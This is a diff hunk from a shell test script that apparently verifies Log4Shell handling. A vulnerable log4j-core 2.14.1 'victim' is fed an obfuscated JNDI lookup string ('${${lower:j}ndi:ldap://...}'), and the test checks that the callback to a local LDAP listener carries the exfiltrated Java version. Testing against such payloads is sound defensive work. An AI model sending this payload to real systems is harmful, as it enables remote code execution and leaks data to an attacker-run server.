@@ -73,7 +73,8 @@ if [ -f "$JARS/true-hits/log4j-core-2.14.1.jar" ] && [ -f "$JARS/false-hits/log4
     java -cp "$CP:$T" Log4jVictim "\${\${lower:j}ndi:ldap://127.0.0.1:$PL/Victim/\${java:version}}" \
         >"$T/victim.out" 2>&1 || true
     wait_events "$EV" '"dn":"Victim/' 1 15
-    dn=$(ev_query "$EV" "e['ldap']['dn'] if e['event'] == 'ldap.search' and e['ldap']['dn'].startswith('Victim/') else None" | head -1)
+    dn=$(ev_query "$EV" "e['ldap']['dn'] if e['event'] == 'ldap.search' and e['ldap']['dn'].startswith('Victim/') else None")
+    dn=${dn%%$'\n'*}
     case "$dn" in *'${'*|Victim/) fail "victim DN not substituted: $dn" ;; esac
     ok "log4j-core 2.14.1 victim called back with DN '$dn' (its exfiltrated Java version)"
 else
